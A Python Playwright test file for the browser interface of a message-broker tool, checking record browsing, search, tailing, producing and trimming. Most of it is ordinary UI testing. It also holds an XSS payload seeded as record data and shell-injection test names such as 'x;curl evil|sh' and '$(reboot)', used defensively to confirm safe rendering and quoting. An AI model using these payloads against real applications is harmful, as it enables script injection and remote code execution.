"""Records in a real browser: read, searched, tailed, produced, sent again, and never anything but text."""

from __future__ import annotations

import json
import shlex
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from penstock.blocking import Admin, Consumer, Producer
from penstock.testing import EmbeddedBroker
from tests.browser.eyes import Eyes

BIG = "9223372036854775807"
HUGE = "12345678901234567890123"
SCRIPT = "<img src=x onerror=\"document.title='broken in'\"><script>document.title='broken in'</script>"


@pytest.fixture(scope="module", autouse=True)
def topics(node: EmbeddedBroker) -> None:
    with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
        for number in range(200):
            value = (
                f'{{"id": {number}, "exact": {BIG}, "country": "{"it" if number % 50 == 7 else "de"}", "huge": {HUGE}}}'
            )
            producer.send("orders", value.encode(), key=f"k{number}".encode(), headers=[("trace", b"t1")])
        for value in (SCRIPT.encode(), json.dumps({"name": SCRIPT, SCRIPT: 1}).encode(), b"\x00\xff\x10", None, b""):
            producer.send("hostile", value, key=SCRIPT.encode(), headers=[(SCRIPT, SCRIPT.encode())])
        for name in ("busy", "copies"):
            producer.send(name, b"first")


def consumed(node: EmbeddedBroker, topic: str, count: int) -> list[tuple[bytes | None, bytes | None]]:
    with Consumer(topic, bootstrap_servers=node.bootstrap_servers, offset_reset="earliest") as consumer:
        # A consumer never ends, so whoever zips it asks the numbers first.
        return [(record.key, record.value) for _, record in zip(range(count), consumer, strict=False)]


def test_the_newest_records_are_there_and_one_is_read_whole(looking: Eyes) -> None:
    looking.open("/topics/orders/messages")
    expect(looking.row("k199")).to_be_visible()
    looking.page.get_by_role("button", name="199", exact=True).click()
    value = looking.page.get_by_label("Value", exact=True).last
    expect(value).to_contain_text(f'"exact": {BIG}')
    expect(value).to_contain_text(f'"huge": {HUGE}')
    assert "at=0%3A199" in looking.path
    expect(looking.page.get_by_text("penstock consume -p 0 --offset=199 -n 1 orders")).to_be_visible()


def test_a_link_to_an_offset_shows_it(looking: Eyes) -> None:
    looking.open("/topics/orders/messages?from=offset:42&partition=0&at=0:44")
    expect(looking.page.get_by_label("Offset")).to_have_value("42")
    expect(looking.page.get_by_role("table", name="Records").get_by_role("row").nth(1)).to_contain_text("k42")
    expect(looking.page.get_by_role("heading", name="Partition 0, offset 44")).to_be_visible()


def test_pages_of_records_lead_both_ways(looking: Eyes) -> None:
    looking.open("/topics/orders/messages?from=oldest")
    expect(looking.row("k49")).to_be_visible()
    looking.page.get_by_role("button", name="After").click()
    expect(looking.row("k99")).to_be_visible()
    looking.page.get_by_role("button", name="Before").click()
    expect(looking.row("k49")).to_be_visible()


def test_a_search_finds_says_why_it_stopped_and_can_be_narrowed_by_a_click(looking: Eyes) -> None:
    looking.open("/topics/orders/messages?from=oldest")
    looking.page.get_by_label("Condition").fill('value.country == "it"')
    looking.page.get_by_role("button", name="Search", exact=True).last.click()
    expect(looking.page.get_by_text("4 hits")).to_be_visible()
    expect(looking.page.get_by_text("Reached the end")).to_be_visible()
    expect(looking.page.get_by_text("looked at 200 records")).to_be_visible()
    looking.row("k57").get_by_role("button").click()
    looking.page.get_by_role("button", name="Only with this: value.id == 57").click()
    expect(looking.page.get_by_text("1 hit", exact=True)).to_be_visible()
    expect(looking.page.get_by_label("Condition")).to_have_value('value.country == "it" and value.id == 57')
    looking.page.reload()
    expect(looking.page.get_by_text("1 hit", exact=True)).to_be_visible()


def test_a_wrong_condition_is_explained_while_it_is_written(looking: Eyes) -> None:
    looking.open("/topics/orders/messages")
    looking.page.get_by_label("Condition").fill("value.country = ")
    expect(looking.page.get_by_role("alert")).to_be_visible()
    expect(looking.page.get_by_role("button", name="Search", exact=True).last).to_be_disabled()


def test_a_tail_shows_what_comes_and_stands_still_when_told_to(looking: Eyes, node: EmbeddedBroker) -> None:
    looking.open("/topics/busy/messages?mode=tail")
    expect(looking.page.get_by_text("0 seen")).to_be_visible()
    with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
        producer.send("busy", b"while it looks").result()
        expect(looking.row("while it looks")).to_be_visible()
        looking.page.get_by_role("button", name="Pause").click()
        producer.send("busy", b"while it rests").result()
        expect(looking.page.get_by_text("1 came while paused")).to_be_visible()
        expect(looking.row("while it rests")).to_have_count(0)
        looking.page.get_by_role("button", name="Go on").click()
        producer.send("busy", b"and again").result()
        expect(looking.row("and again")).to_be_visible()


def test_what_is_produced_is_stored_and_can_be_sent_again(looking: Eyes, node: EmbeddedBroker) -> None:
    looking.open("/topics/hostile/messages")
    looking.page.get_by_role("button", name="Produce").click()
    looking.dialog.get_by_label("no key").uncheck()
    looking.dialog.get_by_label("Key", exact=True).fill("made here")
    looking.dialog.get_by_label("Value", exact=True).fill(f'{{"n": {HUGE}}}')
    looking.dialog.get_by_role("button", name="Produce").click()
    expect(looking.dialog.get_by_text("Done")).to_be_visible()
    expect(looking.dialog.locator("code")).to_contain_text("penstock produce")
    looking.dialog.get_by_role("link", name="Partition 0, offset 5").click()
    looking.page.get_by_role("button", name="Send again").click()
    looking.dialog.get_by_label("To topic").fill("copies")
    looking.dialog.get_by_role("button", name="Send again").click()
    expect(looking.dialog.get_by_text("Done")).to_be_visible()
    assert consumed(node, "copies", 2)[1:] == [(b"made here", f'{{"n": {HUGE}}}'.encode())]


def test_stored_things_are_only_text(looking: Eyes) -> None:
    looking.open("/topics/hostile/messages?from=oldest")
    for offset in range(5):
        looking.page.get_by_role("button", name=str(offset), exact=True).click()
        record = looking.page.get_by_role("heading", name=f"Partition 0, offset {offset}")
        expect(record).to_be_visible()
    looking.page.get_by_role("button", name="1", exact=True).click()
    expect(looking.page.get_by_text("onerror").first).to_be_visible()
    assert looking.page.title() == "hostile · Penstock"
    assert looking.page.locator("main img, main script").count() == 0
    expect(looking.row("null").first).to_be_visible()


def test_what_is_sent_again_is_the_record_and_not_what_the_page_shows_of_it(
    looking: Eyes, node: EmbeddedBroker
) -> None:
    key, value, headers = b"\x00\xff", b"\xfe" * 9_000, [("none", None), ("bytes", b"\xff\x01"), ("none", b"")]
    with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
        producer.send("exact", value, key=key, headers=headers).result()
        producer.send("exact-copies", b"first").result()
    looking.open("/topics/exact/messages?from=oldest&at=0:0")
    looking.page.get_by_role("button", name="Send again").click()
    looking.dialog.get_by_label("To topic").fill("exact-copies")
    expect(looking.dialog.get_by_text("headers 3")).to_be_visible()
    looking.dialog.get_by_role("button", name="Send again").click()
    expect(looking.dialog.get_by_text("Done")).to_be_visible()
    with Consumer("exact-copies", bootstrap_servers=node.bootstrap_servers, offset_reset="earliest") as consumer:
        copies = [record for _, record in zip(range(2), consumer, strict=False)]
    assert (copies[1].key, copies[1].value, list(copies[1].headers)) == (key, value, headers)


def test_a_link_makes_no_command_of_its_own(looking: Eyes) -> None:
    looking.pardon("40[04]")
    for name in ("x;curl evil|sh", "$(reboot)", "`reboot`"):
        for tab in ("messages", "partitions", "consumers", "access"):
            looking.open(f"/topics/{quote(name, safe='')}/{tab}")
            expect(looking.page.get_by_role("alert").first).to_be_visible()
            looking.settled()
            assert [each.inner_text() for each in looking.page.locator("code").all()] == []
        looking.open(f"/groups/{quote(name, safe='')}")
        looking.settled()
        commands = [each.inner_text() for each in looking.page.locator("code").all()]
        assert all(name in shlex.split(command) or name not in command for command in commands), commands
    looking.open("/topics/-not-there/partitions")
    expect(looking.page.locator("code").first).to_have_text("penstock topic create -- -not-there")


def test_a_tail_that_has_ended_does_not_look_live_and_comes_back(looking: Eyes, node: EmbeddedBroker) -> None:
    looking.pardon("40[49]")
    with Admin(bootstrap_servers=node.bootstrap_servers) as admin:
        admin.create_topic("goes", 1, 1)
        looking.open("/topics/goes/messages?mode=tail")
        expect(looking.page.get_by_text("Live", exact=True)).to_be_visible()
        admin.delete_topic("goes")
        # The page may hear that the topic is gone before its tail does.
        ended = looking.page.get_by_text("Not live, trying again").or_(looking.page.get_by_text("does not exist"))
        expect(ended.first).to_be_visible()
        expect(looking.page.get_by_text("Live", exact=True)).to_have_count(0)
        expect(looking.page.get_by_role("alert").first).to_be_visible()
        admin.create_topic("goes", 1, 1)
        expect(looking.page.get_by_text("Live", exact=True)).to_be_visible()
    with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
        producer.send("goes", b"is back").result()
    expect(looking.row("is back")).to_be_visible()


def test_old_records_are_deleted_after_their_topic_was_named(looking: Eyes, node: EmbeddedBroker) -> None:
    with Admin(bootstrap_servers=node.bootstrap_servers) as admin:
        admin.create_topic("old", 2, 1)
        with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
            for number in range(20):
                producer.send("old", b"v", partition=number % 2)
        looking.open("/topics/old/partitions")
        looking.page.get_by_role("button", name="Delete old records").click()
        looking.dialog.get_by_role("combobox").nth(0).select_option("1")
        looking.dialog.get_by_role("combobox").nth(1).select_option("offset")
        looking.dialog.get_by_role("textbox").first.fill("4")
        expect(looking.dialog.locator("code")).to_have_text("penstock topic trim --partition 1 --before 4 --yes old")
        button = looking.dialog.get_by_role("button", name="Delete old records")
        expect(button).to_be_disabled()
        assert [each.start for each in admin.describe_topic("old").partitions] == [0, 0]
        looking.dialog.get_by_role("textbox").last.fill("old")
        button.click()
        expect(looking.dialog.get_by_text("Done")).to_be_visible()
        assert [each.start for each in admin.describe_topic("old").partitions] == [0, 4]


def test_a_dialog_that_is_opened_does_nothing(looking: Eyes, node: EmbeddedBroker) -> None:
    with Admin(bootstrap_servers=node.bootstrap_servers) as admin:
        admin.create_topic("opened", 1, 1)
        looking.open("/topics/opened/partitions")
        with looking.page.expect_response(lambda reply: reply.url.endswith("/elect")) as reply:
            looking.page.get_by_role("button", name="Elect preferred leaders").click()
        assert "plan" in reply.value.json()
        assert "done" not in reply.value.json()
        expect(looking.dialog.get_by_text("0 partitions are led by another now.")).to_be_visible()
